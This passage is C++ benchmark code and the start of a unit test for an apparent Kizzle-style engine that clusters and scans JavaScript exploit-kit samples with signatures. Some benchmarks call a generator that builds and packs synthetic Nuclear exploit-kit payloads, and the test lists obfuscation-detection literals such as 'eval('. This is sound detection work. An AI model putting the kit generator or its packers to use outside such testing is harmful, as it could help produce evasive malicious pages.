    b[rng.index(n)] = 999;  // ~5% substitutions
  }
  for (auto _ : state) {
    benchmark::DoNotOptimize(dist::edit_distance(a, b));
  }
}
BENCHMARK(BM_EditDistanceFull)->Arg(256)->Arg(1024)->Arg(4096);

void BM_EditDistanceBanded(benchmark::State& state) {
  Rng rng(3);
  const auto n = static_cast<std::size_t>(state.range(0));
  const auto a = random_stream(rng, n, 64);
  auto b = a;
  for (std::size_t i = 0; i < n / 20 + 1; ++i) {
    b[rng.index(n)] = 999;
  }
  const std::size_t limit = n / 10;  // the clustering threshold
  for (auto _ : state) {
    benchmark::DoNotOptimize(dist::edit_distance_bounded(a, b, limit));
  }
}
BENCHMARK(BM_EditDistanceBanded)->Arg(256)->Arg(1024)->Arg(4096);

void BM_EditDistanceBandedReject(benchmark::State& state) {
  // The common case in clustering: two unrelated streams, rejected early.
  Rng rng(4);
  const auto n = static_cast<std::size_t>(state.range(0));
  const auto a = random_stream(rng, n, 8);
  const auto b = random_stream(rng, n, 8);
  const std::size_t limit = n / 10;
  for (auto _ : state) {
    benchmark::DoNotOptimize(dist::edit_distance_bounded(a, b, limit));
  }
}
BENCHMARK(BM_EditDistanceBandedReject)->Arg(1024)->Arg(4096);

void BM_HistogramPrefilter(benchmark::State& state) {
  Rng rng(5);
  const auto a = random_stream(rng, 4096, 8);
  const auto b = random_stream(rng, 4096, 8);
  const auto ha = dist::SymbolHistogram::of(a);
  const auto hb = dist::SymbolHistogram::of(b);
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        dist::edit_distance_lower_bound(ha, hb, a.size(), b.size()));
  }
}
BENCHMARK(BM_HistogramPrefilter);

// ------------------------------ winnow ------------------------------

void BM_WinnowFingerprints(benchmark::State& state) {
  Rng rng(6);
  const std::string doc =
      rng.string_over("abcdefghijklmnopqrstuvwxyz(){};=.,",
                      static_cast<std::size_t>(state.range(0)));
  const winnow::Params params;
  for (auto _ : state) {
    benchmark::DoNotOptimize(winnow::FingerprintSet::of_text(doc, params));
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_WinnowFingerprints)->Arg(4096)->Arg(65536);

void BM_WinnowContainment(benchmark::State& state) {
  Rng rng(7);
  const winnow::Params params;
  const auto a = winnow::FingerprintSet::of_text(
      rng.string_over("abcdefgh(){};=", 16384), params);
  const auto b = winnow::FingerprintSet::of_text(
      rng.string_over("abcdefgh(){};=", 16384), params);
  for (auto _ : state) {
    benchmark::DoNotOptimize(a.containment(b));
  }
}
BENCHMARK(BM_WinnowContainment);

// ------------------------------ dbscan ------------------------------

// One day's deduplicated stream shape shared by the clustering benches:
// N families of near-identical streams plus per-family weights.
void make_cluster_day(std::size_t families,
                      std::vector<std::vector<std::uint32_t>>& streams,
                      std::vector<std::size_t>& weights) {
  Rng rng(8);
  for (std::size_t f = 0; f < families; ++f) {
    const std::size_t len = 100 + rng.index(400);
    auto base = random_stream(rng, len, 40);
    for (int variant = 0; variant < 3; ++variant) {
      auto s = base;
      if (variant > 0) s[rng.index(s.size())] += 1000;  // tiny edit
      streams.push_back(std::move(s));
      weights.push_back(1 + rng.index(8));
    }
  }
}

// The clustering hot path in isolation: resolving every unordered pair of
// one day's streams. BM_ClusterPairwise is the neighbor-graph build
// (length window + histogram + winnow sketch + bit-parallel DP, each pair
// once); BM_ClusterPairwiseScalar replays the seed's region-query sweep
// (both orientations of every pair, scalar banded DP). items == resolved
// unordered pairs, so items_per_second is directly comparable.
void BM_ClusterPairwise(benchmark::State& state) {
  std::vector<std::vector<std::uint32_t>> streams;
  std::vector<std::size_t> weights;
  make_cluster_day(static_cast<std::size_t>(state.range(0)), streams,
                   weights);
  cluster::DbscanStats last{};
  for (auto _ : state) {
    cluster::TokenDbscan db(streams, weights, {.eps = 0.10, .min_mass = 3});
    benchmark::DoNotOptimize(db.neighbors());
    last = db.stats();
  }
  const auto n = streams.size();
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(n * (n - 1) / 2));
  state.counters["pairs"] = static_cast<double>(last.pairs_considered);
  state.counters["pruned_length"] =
      static_cast<double>(last.pairs_pruned_length);
  state.counters["pruned_histogram"] =
      static_cast<double>(last.pairs_pruned_histogram);
  state.counters["pruned_sketch"] =
      static_cast<double>(last.pairs_pruned_sketch);
  state.counters["dp"] = static_cast<double>(last.dp_computations);
}
BENCHMARK(BM_ClusterPairwise)->Arg(50)->Arg(150);

void BM_ClusterPairwiseScalar(benchmark::State& state) {
  std::vector<std::vector<std::uint32_t>> streams;
  std::vector<std::size_t> weights;
  make_cluster_day(static_cast<std::size_t>(state.range(0)), streams,
                   weights);
  std::vector<dist::SymbolHistogram> hist;
  for (const auto& s : streams) hist.push_back(dist::SymbolHistogram::of(s));
  const double eps = 0.10;
  for (auto _ : state) {
    std::size_t edges = 0;
    for (std::size_t p = 0; p < streams.size(); ++p) {
      for (std::size_t q = 0; q < streams.size(); ++q) {
        if (q == p) continue;
        const std::size_t la = streams[p].size();
        const std::size_t lb = streams[q].size();
        const std::size_t longest = std::max(la, lb);
        if (longest == 0) {
          ++edges;
          continue;
        }
        const auto limit = static_cast<std::size_t>(
            eps * static_cast<double>(longest));
        const std::size_t diff = (la > lb) ? la - lb : lb - la;
        if (diff > limit) continue;
        if (dist::edit_distance_lower_bound(hist[p], hist[q], la, lb) >
            limit) {
          continue;
        }
        if (dist::edit_distance_bounded_reference(streams[p], streams[q],
                                                  limit) <= limit) {
          ++edges;
        }
      }
    }
    benchmark::DoNotOptimize(edges);
  }
  const auto n = streams.size();
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(n * (n - 1) / 2));
}
BENCHMARK(BM_ClusterPairwiseScalar)->Arg(50)->Arg(150);

// Full clustering runs: graph build + DBSCAN sweep, serial and pooled.
void BM_DbscanEndToEnd(benchmark::State& state) {
  std::vector<std::vector<std::uint32_t>> streams;
  std::vector<std::size_t> weights;
  make_cluster_day(100, streams, weights);
  const auto threads = static_cast<std::size_t>(state.range(0));
  std::unique_ptr<ThreadPool> pool;
  if (threads != 1) pool = std::make_unique<ThreadPool>(threads);
  cluster::DbscanStats last{};
  for (auto _ : state) {
    cluster::TokenDbscan db(streams, weights, {.eps = 0.10, .min_mass = 3},
                            pool.get());
    benchmark::DoNotOptimize(db.run());
    last = db.stats();
  }
  state.counters["graph_seconds"] = last.graph_seconds;
  state.counters["dp"] = static_cast<double>(last.dp_computations);
  state.counters["pruned_sketch"] =
      static_cast<double>(last.pairs_pruned_sketch);
}
BENCHMARK(BM_DbscanEndToEnd)->Arg(1)->Arg(0);  // serial, hardware pool

void BM_TokenDbscanDay(benchmark::State& state) {
  // A scaled model of one day's deduplicated stream: N families of
  // near-identical streams.
  Rng rng(8);
  Interner interner;
  std::vector<std::vector<std::uint32_t>> streams;
  std::vector<std::size_t> weights;
  const auto families = static_cast<std::size_t>(state.range(0));
  for (std::size_t f = 0; f < families; ++f) {
    const std::size_t len = 100 + rng.index(400);
    auto base = random_stream(rng, len, 40);
    for (int variant = 0; variant < 3; ++variant) {
      auto s = base;
      if (variant > 0) s[rng.index(s.size())] += 1000;  // tiny edit
      streams.push_back(std::move(s));
      weights.push_back(1 + rng.index(8));
    }
  }
  for (auto _ : state) {
    cluster::TokenDbscan db(streams, weights,
                            {.eps = 0.10, .min_mass = 3});
    benchmark::DoNotOptimize(db.run());
  }
}
BENCHMARK(BM_TokenDbscanDay)->Arg(50)->Arg(150);

// ------------------------------ regex VM ------------------------------

void BM_PatternLiteralScan(benchmark::State& state) {
  Rng rng(9);
  const std::string haystack =
      rng.string_over("abcdefghijklmnop0123456789", 65536) +
      "NEEDLE-LITERAL-XYZ" + rng.string_over("abcdef", 128);
  const auto p = match::Pattern::compile("NEEDLE\\-LITERAL\\-[A-Z]{3}");
  for (auto _ : state) {
    benchmark::DoNotOptimize(p.search(haystack));
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(haystack.size()));
}
BENCHMARK(BM_PatternLiteralScan);

void BM_PatternKizzleSignature(benchmark::State& state) {
  // A Fig 9-shaped structural signature against a normalized sample.
  const auto p = match::Pattern::compile(
      R"((?<var0>[0-9a-zA-Z]{5,6})=this\[(?<var1>[0-9a-zA-Z]{3,5})\]\(.{11}\);)");
  Rng rng(10);
  const std::string text = rng.string_over("xyzw();=", 16384) +
                           "Euur1V=this[l9D](ev#333399al);" +
                           rng.string_over("xyzw();=", 1024);
  for (auto _ : state) {
    benchmark::DoNotOptimize(p.search(text));
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(text.size()));
}
BENCHMARK(BM_PatternKizzleSignature);

void BM_PatternMiss(benchmark::State& state) {
  // Scanning benign content that does not match (the overwhelmingly common
  // case in deployment): the literal pre-filter should make this cheap.
  const auto p = match::Pattern::compile(
      R"((?<v>[0-9a-zA-Z]{4,8})=getter\(ev3fwrwg4al\);)");
  Rng rng(11);
  const std::string text = rng.string_over("abcdefgh(){};=0123", 262144);
  for (auto _ : state) {
    benchmark::DoNotOptimize(p.search(text));
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(text.size()));
}
BENCHMARK(BM_PatternMiss);

// --------------------- multi-signature scanning ---------------------

// Whole-database scan throughput vs. signature count. The deployment
// channels scan every sample against the full signature set, so this is
// THE production hot path. BM_ScanManySignatures goes through the shared
// Aho–Corasick prefilter (one streaming pass + VM confirmation of the few
// candidates); BM_ScanManySignaturesBruteForce is the per-pattern search
// baseline (one memmem pass per signature). Signature shapes mirror the
// compiler's output: long escaped literal chunks, most of which are from
// *other* samples than the one scanned — the common case in deployment.
void add_database_signatures(match::Scanner& scanner, std::size_t count,
                             const std::string& scanned_sample) {
  Rng rng(14);
  std::vector<std::string> donors;
  for (int d = 0; d < 8; ++d) donors.push_back(packed_nuclear_sample(20 + d));
  for (std::size_t i = 0; i < count; ++i) {
    // ~2% of the database hits the scanned sample, the rest is drawn from
    // unrelated samples (and salted so it cannot accidentally occur).
    std::string chunk;
    if (i % 50 == 0 && scanned_sample.size() > 64) {
      chunk = scanned_sample.substr(rng.index(scanned_sample.size() - 48), 40);
    } else {
      const std::string& donor = donors[i % donors.size()];
      chunk = donor.substr(rng.index(donor.size() - 48), 40) + "#" +
              std::to_string(i);
    }
    scanner.add("sig" + std::to_string(i),
                match::Pattern::compile(match::Pattern::escape(chunk) +
                                        "[0-9a-zA-Z]{0,8}"));
  }
}

// The literal first stage in isolation: one prefilter over a deployed-set
// shaped literal database (40-byte chunks, streaming_signatures shape),
// candidates_into over one normalized sample. BM_TeddyPrefilter is the
// SIMD two-stage path (best available kernel), BM_TeddyPrefilterAutomaton
// forces the byte-at-a-time Aho–Corasick walk over the same registrations
// — the single-stream first-stage speedup is the ratio of the two.
void teddy_prefilter_bench(benchmark::State& state, match::FirstStage stage) {
  Rng rng(16);
  std::vector<std::string> donors;
  for (int d = 0; d < 8; ++d) {
    donors.push_back(text::normalize_raw(packed_nuclear_sample(40 + d)));
  }
  match::LiteralPrefilter pf;
  const auto count = static_cast<std::size_t>(state.range(0));
  for (std::size_t i = 0; i < count; ++i) {
    const std::string& donor = donors[i % donors.size()];
    pf.add(i, donor.substr(rng.index(donor.size() - 48), 40) + "#" +
                  std::to_string(i));
  }
  pf.build();
  pf.set_first_stage(stage);
  const std::string text = text::normalize_raw(packed_nuclear_sample(1));
  std::vector<std::size_t> out;
  for (auto _ : state) {
    pf.candidates_into(text, out);
    benchmark::DoNotOptimize(out);
  }
  state.counters["teddy"] = pf.teddy_active() ? 1 : 0;
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(text.size()));
}

void BM_TeddyPrefilter(benchmark::State& state) {
  teddy_prefilter_bench(state, match::FirstStage::kAuto);
}
BENCHMARK(BM_TeddyPrefilter)->Arg(10)->Arg(100)->Arg(1000)->Arg(10000);

void BM_TeddyPrefilterAutomaton(benchmark::State& state) {
  teddy_prefilter_bench(state, match::FirstStage::kAutomaton);
}
BENCHMARK(BM_TeddyPrefilterAutomaton)->Arg(10)->Arg(100)->Arg(1000)->Arg(10000);

// 1–2-byte literals: the length classes the pre-Fat first stage refused
// outright (its minimum literal length was 3, forcing the whole database
// onto the automaton). Sharded plans route them through the shift-or
// kernels; the Automaton variant is the old behaviour for the same set.
void teddy_short_prefilter_bench(benchmark::State& state,
                                 match::FirstStage stage) {
  constexpr std::string_view kAlpha = "abcdefghijklmnopqrstuvwxyz0123456789";
  match::LiteralPrefilter pf;
  const auto count = static_cast<std::size_t>(state.range(0));
  for (std::size_t i = 0; i < count; ++i) {
    std::string lit;
    lit.push_back(kAlpha[i % kAlpha.size()]);
    if (i % 7 != 0) lit.push_back(kAlpha[(i / kAlpha.size()) % kAlpha.size()]);
    pf.add(i, lit);
  }
  pf.build();
  pf.set_first_stage(stage);
  const std::string text = text::normalize_raw(packed_nuclear_sample(1));
  std::vector<std::size_t> out;
  for (auto _ : state) {
    pf.candidates_into(text, out);
    benchmark::DoNotOptimize(out);
  }
  state.counters["teddy"] = pf.teddy_active() ? 1 : 0;
  state.counters["survivors"] = static_cast<double>(out.size());
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(text.size()));
}

void BM_TeddyPrefilterShortLiterals(benchmark::State& state) {
  teddy_short_prefilter_bench(state, match::FirstStage::kAuto);
}
BENCHMARK(BM_TeddyPrefilterShortLiterals)->Arg(64)->Arg(512);

void BM_TeddyPrefilterShortLiteralsAutomaton(benchmark::State& state) {
  teddy_short_prefilter_bench(state, match::FirstStage::kAutomaton);
}
BENCHMARK(BM_TeddyPrefilterShortLiteralsAutomaton)->Arg(64)->Arg(512);

void BM_ScanManySignatures(benchmark::State& state) {
  const std::string text = packed_nuclear_sample(1);
  match::Scanner scanner;
  add_database_signatures(scanner, static_cast<std::size_t>(state.range(0)),
                          text);
  for (auto _ : state) {
    benchmark::DoNotOptimize(scanner.scan(text));
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(text.size()));
}
BENCHMARK(BM_ScanManySignatures)->Arg(10)->Arg(100)->Arg(1000);

void BM_ScanManySignaturesBruteForce(benchmark::State& state) {
  const std::string text = packed_nuclear_sample(1);
  match::Scanner scanner;
  add_database_signatures(scanner, static_cast<std::size_t>(state.range(0)),
                          text);
  for (auto _ : state) {
    benchmark::DoNotOptimize(scanner.scan_brute_force(text));
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(text.size()));
}
BENCHMARK(BM_ScanManySignaturesBruteForce)->Arg(10)->Arg(100)->Arg(1000);

// The unified engine's steady-state path in isolation: one compiled
// Database, one warm Scratch recycled across iterations (zero heap
// allocation per scan, asserted in tests/engine_test.cpp), event-driven
// all-matches delivery. Directly comparable to BM_ScanManySignatures —
// Scanner::scan routes through this plus a result-vector allocation. The
// Automaton variant forces the prefilter's first stage onto the
// byte-at-a-time walk (the pre-Teddy configuration); one shared body, so
// the two rows differ ONLY in first-stage routing and their ratio is the
// end-to-end single-stream win.
void engine_scan_bench(benchmark::State& state, match::FirstStage stage) {
  const std::string text = packed_nuclear_sample(1);
  match::Scanner scanner;
  add_database_signatures(scanner, static_cast<std::size_t>(state.range(0)),
                          text);
  std::vector<engine::Database::Entry> entries;
  match::LiteralPrefilter pf;
  for (std::size_t i = 0; i < scanner.size(); ++i) {
    entries.push_back(
        engine::Database::Entry{scanner.name(i), "", scanner.pattern(i)});
    pf.add(i, scanner.pattern(i).required_literal());
  }
  pf.build();
  pf.set_first_stage(stage);
  const engine::Database db =
      engine::Database::from_entries(std::move(entries), std::move(pf));
  engine::Scratch scratch;
  std::size_t events = 0;
  for (auto _ : state) {
    const auto outcome = engine::scan(
        db, text, scratch,
        [](const engine::MatchEvent&) { return engine::ScanDecision::Continue; });
    events += outcome.events;
    benchmark::DoNotOptimize(events);
  }
  // Per-scan observability from the scratch: routing, selectivity, and the
  // confirmation-tier split (identical across iterations — same text).
  const engine::ScanStats& st = scratch.stats();
  state.counters["simd"] =
      st.prefilter.fallback == match::PrefilterFallback::kNone ? 1 : 0;
  state.counters["first_stage_hits"] =
      static_cast<double>(st.prefilter.first_stage_hits);
  state.counters["survivors"] =
      static_cast<double>(st.prefilter.literal_survivors);
  state.counters["candidates"] = static_cast<double>(st.candidates);
  state.counters["confirm_find"] = static_cast<double>(st.confirmed_literal);
  state.counters["confirm_program"] =
      static_cast<double>(st.confirmed_literal_dominated);
  state.counters["confirm_vm"] = static_cast<double>(st.confirmed_vm);
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(text.size()));
}

void BM_EngineScanManySignatures(benchmark::State& state) {
  engine_scan_bench(state, match::FirstStage::kAuto);
}
BENCHMARK(BM_EngineScanManySignatures)->Arg(10)->Arg(100)->Arg(1000)->Arg(10000);

void BM_EngineScanManySignaturesAutomaton(benchmark::State& state) {
  engine_scan_bench(state, match::FirstStage::kAutomaton);
}
BENCHMARK(BM_EngineScanManySignaturesAutomaton)
    ->Arg(10)
    ->Arg(100)
    ->Arg(1000)
    ->Arg(10000);

void BM_ScanBatchParallel(benchmark::State& state) {
  // Batch fan-out across the thread pool (the CdnFilter shape): 64 packed
  // samples against a 100-signature database.
  std::vector<std::string> batch;
  for (int i = 0; i < 64; ++i) batch.push_back(packed_nuclear_sample(100 + i));
  match::Scanner scanner;
  add_database_signatures(scanner, 100, batch[0]);
  ThreadPool pool(static_cast<std::size_t>(state.range(0)));
  std::int64_t bytes = 0;
  for (const auto& s : batch) bytes += static_cast<std::int64_t>(s.size());
  for (auto _ : state) {
    benchmark::DoNotOptimize(scanner.scan_batch(batch, pool));
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) * bytes);
}
BENCHMARK(BM_ScanBatchParallel)->Arg(1)->Arg(4)->Arg(0);

// --------------------------- streaming scan ---------------------------

// The deployment channels' chunked path (BrowserGate network arrival,
// DesktopScanner block reads): the prefilter automaton streams over fixed
// size chunks with carried state, then only candidates run the VM.
// BM_StreamingScan/<chunk> vs BM_StreamingScanOneShot is the cost of the
// chunked cursor relative to one contiguous candidates() pass over the
// same 100-signature bundle.
std::vector<core::DeployedSignature> streaming_signatures(std::size_t count) {
  Rng rng(15);
  std::vector<std::string> donors;
  // Normalized donors: deployed signatures are compiled from (and scan)
  // normalized text, and the sigdb text format forbids tabs/newlines.
  for (int d = 0; d < 8; ++d) {
    donors.push_back(text::normalize_raw(packed_nuclear_sample(40 + d)));
  }
  std::vector<core::DeployedSignature> sigs;
  for (std::size_t i = 0; i < count; ++i) {
    const std::string& donor = donors[i % donors.size()];
    const std::string chunk =
        donor.substr(rng.index(donor.size() - 48), 40) + "#" +
        std::to_string(i);
    core::DeployedSignature s;
    s.name = "sig" + std::to_string(i);
    s.family = "bench";
    s.pattern = match::Pattern::escape(chunk) + "[0-9a-zA-Z]{0,8}";
    sigs.push_back(std::move(s));
  }
  return sigs;
}

void BM_StreamingScan(benchmark::State& state) {
  const auto bundle =
      std::make_unique<core::SignatureBundle>(streaming_signatures(100));
  const std::string text = text::normalize_raw(packed_nuclear_sample(1));
  const std::size_t chunk = static_cast<std::size_t>(state.range(0));
  for (auto _ : state) {
    auto stream = bundle->begin_stream();
    for (std::size_t at = 0; at < text.size(); at += chunk) {
      stream.feed(std::string_view(text).substr(at, chunk));
    }
    benchmark::DoNotOptimize(stream.finish());
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(text.size()));
}
BENCHMARK(BM_StreamingScan)->Arg(512)->Arg(4096)->Arg(65536);

void BM_StreamingScanOneShot(benchmark::State& state) {
  const auto bundle =
      std::make_unique<core::SignatureBundle>(streaming_signatures(100));
  const std::string text = text::normalize_raw(packed_nuclear_sample(1));
  for (auto _ : state) {
    benchmark::DoNotOptimize(bundle->match(text));
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(text.size()));
}
BENCHMARK(BM_StreamingScanOneShot);

// Deployment-process cold start: rebuild the bundle (pattern compile +
// automaton construction) vs load the release-time `.kpf` artifact.
void BM_BundleColdStartBuild(benchmark::State& state) {
  const auto sigs = streaming_signatures(static_cast<std::size_t>(state.range(0)));
  for (auto _ : state) {
    benchmark::DoNotOptimize(std::make_unique<core::SignatureBundle>(sigs));
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_BundleColdStartBuild)->Arg(100)->Arg(1000);

void BM_BundleColdStartLoad(benchmark::State& state) {
  const auto sigs = streaming_signatures(static_cast<std::size_t>(state.range(0)));
  std::stringstream blob(std::ios::in | std::ios::out | std::ios::binary);
  core::save_artifact(blob, sigs);
  const std::string artifact = blob.str();
  for (auto _ : state) {
    std::istringstream is(artifact);
    benchmark::DoNotOptimize(std::make_unique<core::SignatureBundle>(is));
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_BundleColdStartLoad)->Arg(100)->Arg(1000);

// Same cold start through the zero-copy path: the artifact is mapped and
// the version-2 automaton tables are used in place instead of streamed
// into owned vectors. The file is written once; each iteration pays
// mmap + parse-and-validate + pattern compilation (shared with the
// istream row above, so the delta between the two rows is the copy).
void BM_BundleColdStartLoadMmap(benchmark::State& state) {
  const auto sigs = streaming_signatures(static_cast<std::size_t>(state.range(0)));
  const std::filesystem::path path =
      std::filesystem::temp_directory_path() /
      ("kizzle_bench_coldstart_" + std::to_string(state.range(0)) + ".kpf");
  {
    std::ofstream os(path, std::ios::binary);
    core::save_artifact(os, sigs);
  }
  for (auto _ : state) {
    auto mapped = std::make_shared<const support::MappedFile>(
        support::MappedFile::open(path.string()));
    benchmark::DoNotOptimize(
        std::make_unique<core::SignatureBundle>(std::move(mapped)));
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()) *
                          state.range(0));
  std::filesystem::remove(path);
}
BENCHMARK(BM_BundleColdStartLoadMmap)->Arg(100)->Arg(1000);

// Release motion at serving scale: re-loading the whole N-signature
// artifact vs applying a small KZDELTA increment onto the live database.
// Both end in a database serving N+8 signatures; the delta row compiles
// only the 8 added patterns and shares the rest.
void BM_DeployFullReload(benchmark::State& state) {
  const auto full =
      streaming_signatures(static_cast<std::size_t>(state.range(0)) + 8);
  std::stringstream blob(std::ios::in | std::ios::out | std::ios::binary);
  core::save_artifact(blob, full);
  const std::string artifact = blob.str();
  for (auto _ : state) {
    std::istringstream is(artifact);
    benchmark::DoNotOptimize(engine::Database::from_artifact(is));
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()) *
                          (state.range(0) + 8));
}
BENCHMARK(BM_DeployFullReload)->Arg(1000);

void BM_DeployDeltaApply(benchmark::State& state) {
  const auto full =
      streaming_signatures(static_cast<std::size_t>(state.range(0)) + 8);
  const std::vector<core::DeployedSignature> base(
      full.begin(), full.begin() + state.range(0));
  core::DeltaArtifact delta;
  delta.base_fingerprint = core::fingerprint(base);
  delta.result_fingerprint = core::fingerprint(full);
  delta.added.assign(full.begin() + state.range(0), full.end());
  const engine::Database db = engine::Database::compile(base);
  for (auto _ : state) {
    benchmark::DoNotOptimize(db.extend(delta));
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()) *
                          (state.range(0) + 8));
}
BENCHMARK(BM_DeployDeltaApply)->Arg(1000);

// The automaton in isolation (full bundle cold start is dominated by
// pattern compilation, which the artifact deliberately does not ship):
// Aho–Corasick trie + BFS construction vs flat table load.
void BM_PrefilterBuild(benchmark::State& state) {
  const auto sigs = streaming_signatures(static_cast<std::size_t>(state.range(0)));
  std::vector<std::string> literals;
  for (const auto& s : sigs) {
    literals.push_back(match::Pattern::compile(s.pattern).required_literal());
  }
  for (auto _ : state) {
    match::LiteralPrefilter pf;
    for (std::size_t i = 0; i < literals.size(); ++i) pf.add(i, literals[i]);
    pf.build();
    benchmark::DoNotOptimize(pf);
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_PrefilterBuild)->Arg(100)->Arg(1000);

void BM_PrefilterLoad(benchmark::State& state) {
  const auto sigs = streaming_signatures(static_cast<std::size_t>(state.range(0)));
  match::LiteralPrefilter pf;
  for (std::size_t i = 0; i < sigs.size(); ++i) {
    pf.add(i, match::Pattern::compile(sigs[i].pattern).required_literal());
  }
  pf.build();
  std::stringstream blob(std::ios::in | std::ios::out | std::ios::binary);
  pf.serialize(blob);
  const std::string artifact = blob.str();
  for (auto _ : state) {
    std::istringstream is(artifact);
    benchmark::DoNotOptimize(match::LiteralPrefilter::load(is));
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_PrefilterLoad)->Arg(100)->Arg(1000);

// -------------------------- common window --------------------------

void BM_CommonWindowSearch(benchmark::State& state) {
  Rng rng(12);
  const auto shared = random_stream(rng, 600, 1000);
  std::vector<std::vector<std::uint32_t>> streams;
  for (int s = 0; s < 12; ++s) {
    auto stream = random_stream(rng, 200, 1000);
    stream.insert(stream.end(), shared.begin(), shared.end());
    auto tail = random_stream(rng, 200, 1000);
    stream.insert(stream.end(), tail.begin(), tail.end());
    streams.push_back(std::move(stream));
  }
  for (auto _ : state) {
    benchmark::DoNotOptimize(sig::find_common_window(streams, 10, 200));
  }
}
BENCHMARK(BM_CommonWindowSearch);

// ------------------------------ packers ------------------------------

void BM_PackNuclear(benchmark::State& state) {
  Rng rng(13);
  kitgen::PayloadSpec spec;
  spec.family = kitgen::KitFamily::Nuclear;
  spec.cves = kitgen::kit_info(kitgen::KitFamily::Nuclear).cves;
  spec.av_check = true;
  spec.urls = {kitgen::make_landing_url(rng)};
  const std::string payload = payload_text(spec);
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        pack_nuclear(payload, kitgen::NuclearPackerState{}, rng));
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(payload.size()));
}
BENCHMARK(BM_PackNuclear);

}  // namespace
