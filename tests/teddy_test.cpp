// Differential oracle for the Teddy SIMD literal first stage
// (match/teddy.h) and its integration into the shared prefilter:
//
//   * kernel agreement — every compiled-in Impl (scalar shift-or, SSSE3,
//     AVX2 where the host supports them) emits byte-identical Hit
//     sequences on random and adversarial texts;
//   * candidate equivalence — a Teddy-routed LiteralPrefilter returns
//     byte-identical candidate sets to the forced automaton walk: literal
//     lengths 1..8 (short sets disqualify Teddy and must still agree),
//     shared-prefix bucket collisions, occurrences at position 0 and at
//     the last possible position, and the full kitgen corpus;
//   * streaming equivalence — StreamingMatcher over the Teddy path equals
//     one-shot candidates() for every split position and every chunking;
//   * thread safety — one shared plan scanned from many threads (the tsan
//     CI job runs this suite).
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <thread>
#include <vector>

#include "kitgen/families.h"
#include "kitgen/packers.h"
#include "kitgen/payload.h"
#include "match/pattern.h"
#include "match/prefilter.h"
#include "match/teddy.h"
#include "support/rng.h"
#include "text/normalize.h"

namespace kizzle::match {
namespace {

std::vector<teddy::Impl> available_impls() {
  std::vector<teddy::Impl> impls;
  for (const teddy::Impl impl :
       {teddy::Impl::kScalar, teddy::Impl::kSsse3, teddy::Impl::kAvx2}) {
    if (teddy::impl_available(impl)) impls.push_back(impl);
  }
  return impls;
}

// Builds the same registration set twice: one prefilter free to route
// through Teddy, one forced onto the automaton walk.
struct Pair {
  LiteralPrefilter teddy;
  LiteralPrefilter automaton;
};

Pair build_pair(const std::vector<std::pair<std::size_t, std::string>>& regs) {
  Pair p;
  for (const auto& [id, lit] : regs) {
    p.teddy.add(id, lit);
    p.automaton.add(id, lit);
  }
  p.teddy.build();
  p.automaton.build();
  p.automaton.set_first_stage(FirstStage::kAutomaton);
  return p;
}

void expect_equal_candidates(const Pair& p, std::string_view text) {
  EXPECT_EQ(p.teddy.candidates(text), p.automaton.candidates(text))
      << "text: " << text;
}

// ----------------------------- kernel unit -----------------------------

TEST(TeddyPlan, QualificationGates) {
  using teddy::Plan;
  // Any literal shorter than kMinLiteralLen disqualifies the set.
  EXPECT_FALSE(Plan::build({{"ab", 0}}).has_value());
  EXPECT_FALSE(Plan::build({{"abcdef", 0}, {"xy", 1}}).has_value());
  EXPECT_FALSE(Plan::build({}).has_value());
  ASSERT_TRUE(Plan::build({{"abc", 0}}).has_value());
  // Three-byte minimum selects the 3-byte prefix window; all-longer sets
  // get the more selective 4-byte window.
  EXPECT_EQ(Plan::build({{"abc", 0}, {"wxyz", 1}})->prefix_len(), 3u);
  EXPECT_EQ(Plan::build({{"abcd", 0}, {"wxyz", 1}})->prefix_len(), 4u);
  // Oversized sets fall back to the automaton.
  std::vector<Plan::Literal> many;
  for (std::size_t i = 0; i < Plan::kMaxLiterals + 1; ++i) {
    many.push_back({"lit" + std::to_string(i), i});
  }
  EXPECT_FALSE(Plan::build(many).has_value());
  many.pop_back();
  EXPECT_TRUE(Plan::build(std::move(many)).has_value());
}

TEST(TeddyPlan, ImplsEmitIdenticalHits) {
  Rng rng(0x7EDD1);
  const std::vector<teddy::Plan::Literal> lits = {
      {"abc", 0}, {"abcd", 1}, {"bcde", 2}, {"fromCharCode", 3},
      {"eval(", 4}, {"\x01\x02\x03", 5}, {"zzz", 6}, {"abz", 7},
  };
  const auto plan = teddy::Plan::build(lits);
  ASSERT_TRUE(plan.has_value());

  std::vector<std::string> texts;
  texts.push_back("");
  texts.push_back("ab");                      // shorter than the prefix
  texts.push_back("abc");                     // exactly one prefix
